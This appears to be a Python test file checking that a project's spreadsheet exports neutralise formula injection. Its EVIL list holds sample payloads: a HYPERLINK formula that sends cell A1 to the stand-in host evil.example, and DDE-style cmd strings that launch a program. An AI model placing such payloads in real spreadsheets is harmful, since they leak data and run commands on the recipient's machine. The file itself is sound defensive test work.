"""Formula injection: cells starting with = + - @ are written as plain text, never a formula.

Each export has its own test next to it (roster, member file, dashboard), using `formulas` and
`EVIL` from here."""

from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook, load_workbook

from zhibu.core.xlsx import defuse_workbook, looks_like_formula

# No "/" in them: the roster writes an ambiguous branch as "上级/支部".
EVIL = [
    '=HYPERLINK("https:evil.example?d="&A1,"点此")',
    "+cmd|' -C calc'!A0",
    "-2+3+cmd|' -C calc'!A0",
    "@SUM(1+1)*cmd|' -C calc'!A0",
]


def formulas(content: bytes) -> list[str]:
    """Every formula in the workbook: in the XML (<f>) and as openpyxl reads it."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in z.read(name):
                found.append(name)
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        found += [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return found


def test_looks_like_formula_boundaries():
    assert all(looks_like_formula(v) for v in EVIL)
    assert not any(looks_like_formula(v) for v in ("张三", "1980", "", None, -5, "a=b", " =x"))


def test_defused_workbook_keeps_the_text_and_has_no_formula():
    wb = Workbook()
    wb.active.append(EVIL)
    defuse_workbook(wb)
    out = io.BytesIO()
    wb.save(out)
    assert formulas(out.getvalue()) == []
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=True))
    assert list(row) == EVIL
